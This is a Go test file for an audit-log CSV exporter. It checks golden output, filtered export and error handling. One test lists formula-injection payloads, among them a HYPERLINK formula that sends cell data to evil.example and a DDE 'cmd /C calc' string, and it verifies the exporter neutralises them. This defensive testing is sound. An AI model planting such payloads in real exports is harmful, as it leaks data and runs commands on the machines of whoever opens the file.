package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/userdesk/userdesk/internal/audit"
)

var t0 = time.Date(2026, 11, 27, 10, 0, 0, 123456000, time.UTC)

func TestWriteCSVGolden(t *testing.T) {
	e := audit.Entry{ID: 7, Time: t0, ActorIssuer: "https://idp/", ActorSubject: "okta|a", ActorEmail: "a@x.com",
		ActorRole: "agent", ClientIP: "203.0.113.7", Action: "user.metadata.update", TargetUserID: "auth0|b",
		TargetEmail: "b@x.com", Changes: []audit.Change{{Field: "app_metadata.plan", Before: `"free"`, After: `"pro"`}},
		Reason: "T-1", Outcome: audit.OutcomeSuccess, UpstreamStatus: 200, CorrelationID: "c1", RequestID: "r1", Detail: "ok"}
	var b bytes.Buffer
	if err := audit.WriteCSV(&b, func(fn func(audit.Entry) error) error { return fn(e) }); err != nil {
		t.Fatal(err)
	}
	want := "id,time,actor_issuer,actor_subject,actor_email,actor_role,client_ip,action,target_user_id,target_email,changes,reason,outcome,upstream_status,correlation_id,request_id,detail\n" +
		`7,2026-11-27T10:00:00.123456Z,https://idp/,okta|a,a@x.com,agent,203.0.113.7,user.metadata.update,auth0|b,b@x.com,"[{""field"":""app_metadata.plan"",""before"":""\""free\"""",""after"":""\""pro\""""}]",T-1,success,200,c1,r1,ok` + "\n"
	if b.String() != want {
		t.Errorf("CSV\n got: %s\nwant: %s", b.String(), want)
	}
}

func TestWriteCSVIsInertAndOneRowPerEntry(t *testing.T) {
	payloads := map[string]string{
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")": "'",
		"+cmd|' /C calc'!A0":                             "'",
		"-2+3":                                           "'",
		"@SUM(1,2)":                                      "'",
		"\t=1+1":                                         "'",
		"\r\n=1+1":                                       "'",
		"\n@x":                                           "'",
		"＝1+1":                                           "'",
		"plain, with \"quotes\"\nand a new line":         "",
		"a=b (not at the start)":                         "",
	}
	var entries []audit.Entry
	for p := range payloads {
		entries = append(entries, audit.Entry{ID: int64(len(entries) + 1), Time: t0, ActorEmail: p, TargetEmail: p,
			Reason: p, Detail: p, Action: "user.update", Outcome: audit.OutcomeSuccess})
	}
	var b bytes.Buffer
	err := audit.WriteCSV(&b, func(fn func(audit.Entry) error) error {
		for _, e := range entries {
			if err := fn(e); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	if len(recs) != len(entries)+1 || !reflect.DeepEqual(recs[0], audit.CSVColumns()) {
		t.Fatalf("%d records (header %v); want a header and %d rows", len(recs), recs[0], len(entries))
	}
	col := map[string]int{}
	for i, c := range audit.CSVColumns() {
		col[c] = i
	}
	for i, e := range entries {
		row := recs[i+1]
		prefix := payloads[e.Detail]
		// encoding/csv reads a quoted CR LF back as LF.
		orig := strings.ReplaceAll(e.Detail, "\r\n", "\n")
		for _, c := range []string{"actor_email", "target_email", "reason", "detail"} {
			if row[col[c]] != prefix+orig {
				t.Errorf("%s of %q: got %q, want %q", c, e.Detail, row[col[c]], prefix+orig)
			}
		}
	}
}

func TestExportCSVStreamsTheFilteredTrail(t *testing.T) {
	ctx := context.Background()
	s := audit.NewMemory()
	for i, target := range []string{"auth0|a", "auth0|b", "auth0|a"} {
		if _, err := s.Append(ctx, audit.Entry{Time: t0.Add(time.Duration(i) * time.Minute), Action: "user.block",
			TargetUserID: target, Outcome: audit.OutcomeSuccess}); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	if err := audit.ExportCSV(ctx, &b, s, audit.Filter{TargetUserID: "auth0|a"}); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || recs[1][0] != "3" || recs[2][0] != "1" {
		t.Errorf("export rows %v; want entries 3 then 1", recs[1:])
	}

	b.Reset()
	if err := audit.ExportCSV(ctx, &b, s, audit.Filter{TargetUserID: "nobody"}); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSuffix(b.String(), "\n"); got != strings.Join(audit.CSVColumns(), ",") {
		t.Errorf("empty export = %q; want the header only", got)
	}

	boom := errors.New("boom")
	if err := audit.WriteCSV(&b, func(func(audit.Entry) error) error { return boom }); !errors.Is(err, boom) {
		t.Errorf("source error: got %v, want it wrapped", err)
	}
}
